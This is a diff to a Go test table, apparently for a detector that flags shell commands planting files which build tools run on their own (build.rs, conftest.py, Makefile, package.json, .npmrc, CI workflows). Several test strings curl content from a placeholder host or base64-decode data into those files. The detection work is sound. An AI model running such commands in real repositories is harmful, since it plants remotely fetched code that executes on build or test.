@@ -34,20 +34,22 @@ func TestRunsLater(t *testing.T) {
 // TestPlants: what a line plants, and where the bytes come from.
 func TestPlants(t *testing.T) {
 	for line, want := range map[string]string{
-		`printf 'all:\n' > Makefile`:                        "make text",
-		"curl -o sub/conftest.py https://x.example":         "pytest download",
-		"curl -s https://x.example | tee build.rs":          "cargo download",
-		"base64 -d x | sed s/a/b/ > package.json":           "npm, yarn, pnpm, bun decoder",
-		`echo "$(curl https://x.example)" > .npmrc`:         "npm, pnpm download",
-		"curl -s https://x.example > >(tee build.rs)":       "cargo download",
-		"exec > >(cat > build.rs); base64 -d x":             "cargo decoder",
-		"curl https://x.example > x; cp a Makefile":         "make",
-		"cp a .github/workflows/ci.yml":                     "GitHub Actions",
-		"mv x.mk rules.mk":                                  "make,make",
-		"cat Makefile":                                      "",
-		"curl -o data.json https://x.example":               "",
-		"touch src/a.go":                                    "",
-		"curl -s https://x.example; echo all: >GNUmakefile": "make text",
+		`printf 'all:\n' > Makefile`:                            "make text",
+		"curl -o sub/conftest.py https://x.example":             "pytest download",
+		"curl -s https://x.example | tee build.rs":              "cargo download",
+		"base64 -d x | sed s/a/b/ > package.json":               "npm, yarn, pnpm, bun decoder",
+		`echo "$(curl https://x.example)" > .npmrc`:             "npm, pnpm download",
+		"curl -s https://x.example > >(tee build.rs)":           "cargo download",
+		"{ cat; tee build.rs; } < <(curl -s https://x.example)": "cargo download",
+		"tee build.rs <<< \"$(base64 -d x)\"":                   "cargo decoder",
+		"exec > >(cat > build.rs); base64 -d x":                 "cargo decoder",
+		"curl https://x.example > x; cp a Makefile":             "make",
+		"cp a .github/workflows/ci.yml":                         "GitHub Actions",
+		"mv x.mk rules.mk":                                      "make,make",
+		"cat Makefile":                                          "",
+		"curl -o data.json https://x.example":                   "",
+		"touch src/a.go":                                        "",
+		"curl -s https://x.example; echo all: >GNUmakefile":     "make text",
 	} {
 		dir, u := usesOf(t, line)
 		var got []string
